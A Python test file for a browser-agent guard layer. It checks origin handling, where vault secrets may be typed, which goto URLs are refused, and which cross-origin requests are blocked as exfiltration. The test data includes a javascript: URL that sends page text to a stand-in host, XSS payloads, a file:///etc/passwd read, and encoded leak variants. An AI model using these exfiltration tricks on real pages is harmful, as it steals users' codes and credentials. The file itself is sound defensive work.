"""The pure rules behind the action and request guards, without a browser: where a
placeholder may be typed (frame and form origin), which URLs `goto` opens, and which
cross-origin requests carry a vault value or a secret-named parameter."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import quote

import pytest

from webminim.actions import Action, FieldSite, check_field_site, origin_key
from webminim.egress.browser_adapter import SCAN_CAP, Incident, RequestGuard, vault_needles
from webminim.egress.navigation import check_navigation
from webminim.errors import ActionRefused
from webminim.session import AuditLog
from webminim.vault import Vault

A = "http://a.test"
B = "http://b.test"
CODE = "847293"


@pytest.fixture
def vault() -> Vault:
    vault = Vault()
    vault.placeholder(f"Your verification code is {CODE}", origin=A)  # [OTP_1]
    vault.placeholder("dana.kim@gmail.com", origin=A)  # [EMAIL_1]
    vault.placeholder("Cart", kind="TEXT", origin=A)  # too short to search
    vault.placeholder("Inbox (3)", kind="TAB", origin=A)  # a tab title: the page's own string
    return vault


@pytest.fixture
def guard(vault: Vault) -> RequestGuard:
    return RequestGuard(task="Enter the verification code", vault=vault)


# -- origins -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url, key",
    [
        ("http://A.test/x?y#z", "http://a.test"),  # case-folded, path dropped
        ("http://a.test:80/", "http://a.test"),  # default port dropped
        ("https://user:pw@a.test:8443/", "https://a.test:8443"),  # userinfo dropped
        ("http://[::1]:8000/", "http://[::1]:8000"),  # IPv6
        ("about:blank", "about:"),
        ("about", "about:"),  # view.origin_of's form for about:blank
        ("file:///etc/hostname", "file:"),
        ("javascript:alert(1)", "javascript:"),
        ("http://[::1", "invalid:"),  # does not parse: equals no real origin
        ("http://a.test:99999/", "invalid:"),  # port out of range
        ("", ""),
        ("null", "null"),  # an opaque origin
    ],
)
def test_origin_key(url: str, key: str):
    assert origin_key(url) == key


# -- where a placeholder may be typed ------------------------------------------------------


@pytest.mark.parametrize(
    "site, page, refused",
    [
        (FieldSite(f"{A}/twofa", True), f"{A}/twofa", None),  # the page's own field
        (FieldSite(f"{A}/widget", False), f"{A}/twofa", None),  # a same-origin iframe
        (FieldSite(f"{A}/twofa", True, (f"{A}/verify", f"{A}/twofa")), f"{A}/twofa", None),  # its form stays home
        (FieldSite(f"{B}/widget", False), f"{A}/twofa", "embedded frame"),  # a cross-origin iframe
        (FieldSite("http://A.test:80/w", False), f"{A}/twofa", None),  # same origin, spelled differently
        (FieldSite("data:text/html,x", False), f"{A}/twofa", "embedded frame"),  # an opaque frame
        (FieldSite("", False), f"{A}/twofa", "embedded frame"),  # a frame whose URL is unknown
        (FieldSite(f"{A}/twofa", True, (f"{B}/collect",)), f"{A}/twofa", "form sends"),  # form action elsewhere
        (FieldSite(f"{A}/twofa", True, (f"{A}/v", f"{B}/c")), f"{A}/twofa", "form sends"),  # a button's formaction
        (FieldSite(f"{A}/twofa", True, ("javascript:go()",)), f"{A}/twofa", "form sends"),  # a script action
    ],
)
def test_field_site_rule(vault: Vault, site: FieldSite, page: str, refused: str | None):
    action = Action("type", node_id="7", text="[OTP_1]")
    if refused is None:
        check_field_site(action, vault=vault, site=site, page_url=page)
        return
    with pytest.raises(ActionRefused, match=refused) as exc:
        check_field_site(action, vault=vault, site=site, page_url=page)
    assert "\n" not in str(exc.value) and B not in str(exc.value)  # foreign origins are not named


def test_a_value_from_local_content_goes_only_into_its_top_frame():
    vault = Vault()
    vault.placeholder(f"code {CODE}", kind="OTP", origin="about")  # observed on a set_content page
    action = Action("type", node_id="3", text="[OTP_1]")
    check_field_site(action, vault=vault, site=FieldSite("about:blank", True), page_url="about:blank")
    with pytest.raises(ActionRefused, match="embedded frame"):
        check_field_site(action, vault=vault, site=FieldSite("about:blank", False), page_url="about:blank")


def test_text_without_placeholders_is_not_checked(vault: Vault):
    check_field_site(Action("type", node_id="3", text="hello"), vault=vault, site=FieldSite(B, False), page_url=A)


# -- goto ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "javascript:fetch('http://b.test/?c='+document.body.innerText)",
        "  JaVaScRiPt:alert(1)",  # case and leading space
        "java\tscript:alert(1)",  # browsers drop tabs and newlines inside URLs
        "\x01javascript:alert(1)",  # and C0 controls around them
        "data:text/html,<script>alert(1)</script>",
        "blob:http://a.test/8c3e2a40-0000-4000-8000-000000000000",
        "file:///etc/passwd",
        "vbscript:msgbox(1)",
        "chrome://settings",  # anything else that is not http(s)
        "http://[::1",  # does not parse
    ],
)
def test_goto_refuses_schemes_that_run_code_or_read_local_data(guard: RequestGuard, url: str):
    with pytest.raises(ActionRefused, match="goto refused") as exc:
        check_navigation(url, f"{A}/twofa", guard)
    assert "\n" not in str(exc.value)


@pytest.mark.parametrize(
    "url, current, opened",
    [
        (f"{A}/x?code={CODE}", f"{A}/twofa", f"{A}/x?code={CODE}"),  # same origin: as is
        ("/cart", f"{A}/twofa", f"{A}/cart"),  # relative: resolved against the page
        ("about:blank", f"{A}/twofa", "about:blank"),
        (f"{B}/search?q=shoes", f"{A}/twofa", f"{B}/search?q=shoes"),  # another origin, nothing withheld
        ("http://b.test\\@a.test/", f"{A}/twofa", "http://b.test/@a.test/"),  # "\" is "/": b.test is opened
    ],
)
def test_goto_opens(guard: RequestGuard, url: str, current: str, opened: str):
    assert check_navigation(url, current, guard) == opened


@pytest.mark.parametrize(
    "url",
    [
        f"{B}/collect?promo={CODE}",  # a vault value
        f"{B}/collect/{CODE}",  # in the path
        f"{B}/collect?otp=553201",  # a code the vault never saw, in a code-named parameter
        f"http://b.test\\@a.test/?promo={CODE}",  # looks like a.test to a naive parser, opens b.test
    ],
)
def test_goto_refuses_withheld_values_to_another_origin(guard: RequestGuard, url: str):
    with pytest.raises(ActionRefused, match="goto refused"):
        check_navigation(url, f"{A}/twofa", guard)


def test_a_relative_goto_from_a_blank_page_is_refused(guard: RequestGuard):
    with pytest.raises(ActionRefused, match="full http"):
        check_navigation("/cart", "about:blank", guard)


# -- the request guard ---------------------------------------------------------------------


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


FORM = "application/x-www-form-urlencoded"
BLOCKED = [
    (f"{B}/c?promo={CODE}", None, "", {}),  # raw, in the query
    (f"{B}/c/{CODE}", None, "", {}),  # in the path
    (f"{B}/c?p=847-293", None, "", {}),  # dashed
    (f"{B}/c?p=847%20293", None, "", {}),  # spaced, URL-encoded
    (f"{B}/c?b={b64(CODE)}", None, "", {}),  # base64
    (f"{B}/c", f"blob={b64(json.dumps({'v': 'Your verification code is ' + CODE}))}", FORM, {}),  # inside base64
    (f"{B}/c?u={quote('DANA.KIM@gmail.com')}", None, "", {}),  # an e-mail, case and encoding aside
    (f"{B}/c", None, "", {"x-note": b64(CODE)}),  # a header
    (f"{B}/c", f"note={CODE}", "text/plain", {}),  # a text body
    (f"{B}/c", '{"a": "\\u0038\\u0034\\u0037\\u0032\\u0039\\u0033"}', "application/json", {}),  # JSON escapes
    (f"{B}/c", json.dumps({"user": {"otp": "553201"}}), "application/json", {}),  # a code-named JSON field
    (f"{B}/c?verificationCode=553201", None, "", {}),  # camelCase names
    (f"{B}/c", "username=dana&password=Sunflower25!", FORM, {}),  # a password-named form field
    (f"{B}/c", "pin=4821", "text/plain", {}),  # a beacon's text body in query syntax
    (f"{B}/c?access_token=ghp16C7e42F292c6912E7710c838347Ae178B4a", None, "", {}),  # a token
    (
        f"{B}/c",
        '--XX\r\nContent-Disposition: form-data; name="new_password"\r\n\r\nhunter2!x\r\n--XX--\r\n',
        "multipart/form-data; boundary=XX",
        {},
    ),  # multipart
    ("http://847293.b.test/c", None, "", {}),  # in the host name
]
PASSED = [
    (f"{B}/c?lang=en&country_code=US", None, "", {}),  # harmless parameters
    (f"{B}/c?promo_code=55320", None, "", {}),  # a promo code is not a secret
    (f"{B}/c?page=2&cart=1", None, "", {"x-app": "Cart"}),  # a short vault TEXT is not searched
    (f"{B}/c?title=Inbox+(3)", None, "", {}),  # nor are tab titles
    (f"{B}/c?password=ab", None, "", {}),  # too short to be a password
]


@pytest.mark.parametrize("url, body, content_type, headers", BLOCKED)
def test_cross_origin_secrets_are_blocked(guard: RequestGuard, url: str, body, content_type: str, headers):
    assert guard.verdict(url, body, content_type, f"{A}/twofa", headers=headers) == {}
    (incident,) = guard.incidents
    assert incident.action == "blocked" and incident.where
    assert CODE not in repr(incident) and "553201" not in repr(incident) and "Sunflower" not in repr(incident)


@pytest.mark.parametrize("url, body, content_type, headers", PASSED)
def test_harmless_cross_origin_requests_pass(guard: RequestGuard, url: str, body, content_type: str, headers):
    assert guard.verdict(url, body, content_type, f"{A}/twofa", headers=headers) is None
    assert not guard.incidents


def test_the_code_inside_a_longer_number_is_blocked(guard: RequestGuard):
    # substring search (no word boundaries): a script cannot slip the code out by gluing digits on
    assert guard.verdict(f"{B}/c?id=18472931", None, "", A) == {}


def test_same_origin_requests_are_untouched(guard: RequestGuard):
    assert guard.verdict(f"{A}/verify?code={CODE}", f"otp={CODE}", FORM, f"{A}/twofa") is None
    assert not guard.incidents


def test_a_request_without_a_known_page_counts_as_cross_origin(guard: RequestGuard):
    # a popup's first navigation: Playwright has no page for it yet
    assert guard.verdict(f"{A}/verify?promo={CODE}", None, "", "") == {}
    assert guard.verdict(f"{A}/verify?promo={CODE}", None, "", "about:blank") == {}


def test_a_body_too_large_to_search_is_blocked_when_the_vault_has_values(guard: RequestGuard):
    body = "x=" + "a" * SCAN_CAP
    assert guard.verdict(f"{B}/upload", body, "text/plain", A, body_size=len(body)) == {}
    assert guard.incidents[-1].reason == "body too large to search"
    empty = RequestGuard(vault=Vault())  # nothing to search for: the size alone is no reason
    empty.verdict(f"{B}/upload", body, "text/plain", A, body_size=len(body))
    assert all(i.reason != "body too large to search" for i in empty.incidents)


def test_too_many_secret_named_parameters_are_blocked(guard: RequestGuard):
    body = "&".join(f"otp{i}=x" for i in range(1_001))
    assert guard.verdict(f"{B}/c", body, FORM, A) == {}


@pytest.mark.parametrize(
    "url, body, content_type",
    [
        ("http://[::1", None, ""),  # a URL that does not parse
        (f"{B}/c", "[" * 100_000 + "]" * 100_000, "application/json"),  # JSON too deep to parse
        (f"{B}/c", "\ufffd\x00\x01binary", "application/octet-stream"),  # bytes decoded with replacement
        (f"{B}/c", "--XX\r\nno headers here", "multipart/form-data; boundary=XX"),  # a broken multipart
        (f"{B}/c", "%%%&&&===", FORM),  # broken form encoding
    ],
)
def test_garbage_requests_get_a_verdict_not_an_exception(guard: RequestGuard, url: str, body, content_type: str):
    verdict = guard.verdict(url, body, content_type, A)
    assert verdict is None or verdict == {} or "url" in verdict


def test_a_request_that_cannot_be_read_is_blocked(guard: RequestGuard):
    class Broken:
        @property
        def request(self):
            raise RuntimeError("target closed")

    assert guard._verdict_for(Broken()) == {}  # type: ignore[arg-type]
    assert guard.incidents[-1].action == "blocked" and "RuntimeError" in guard.incidents[-1].reason


def test_a_popup_request_without_a_frame_is_checked_as_cross_origin(guard: RequestGuard):
    class NoFrame(SimpleNamespace):
        @property
        def frame(self):
            raise RuntimeError("Frame for this navigation request is not available")

    request = NoFrame(url=f"{A}/next?promo={CODE}", post_data_buffer=None, headers={})
    assert guard._verdict_for(SimpleNamespace(request=request)) == {}  # type: ignore[arg-type]


def test_needles_skip_short_values_tab_titles_and_links(vault: Vault):
    needles = {needle for needle, _, _ in vault_needles(vault)}
    assert CODE in needles and "dana.kim%40gmail.com" in needles and b64(CODE).lower() in needles
    assert "cart" not in needles and "inbox (3)" not in needles
    assert all(len(n) >= 4 for n in needles)


def test_blocked_requests_reach_the_audit_log_without_values(vault: Vault, tmp_path: Path):
    log = AuditLog(tmp_path / "audit.jsonl")
    seen: list[Incident] = []

    def record(incident: Incident) -> None:
        seen.append(incident)
        log.request(3, incident.url, incident.action, incident.reason, incident.placeholders, incident.where)

    guard = RequestGuard(vault=vault, on_incident=record)
    assert guard.verdict(f"{B}/c?promo={CODE}", f"password=Sunflower25&n={b64(CODE)}", FORM, A) == {}
    (entry,) = [json.loads(line) for line in log.path.read_text().splitlines()]
    assert entry == {
        "event": "request",
        "outcome": "blocked",
        "placeholders": ["[OTP_1]"],
        "reason": "a secret bound for another origin",
        "step": 3,
        "target": B,
        "where": ["body", "url"],
    }
    assert CODE not in log.path.read_text() and "Sunflower25" not in log.path.read_text()


def test_a_failing_audit_write_does_not_unblock(vault: Vault):
    def broken(incident: Incident) -> None:
        raise OSError("disk full")

    guard = RequestGuard(vault=vault, on_incident=broken)
    assert guard.verdict(f"{B}/c?promo={CODE}", None, "", A) == {}
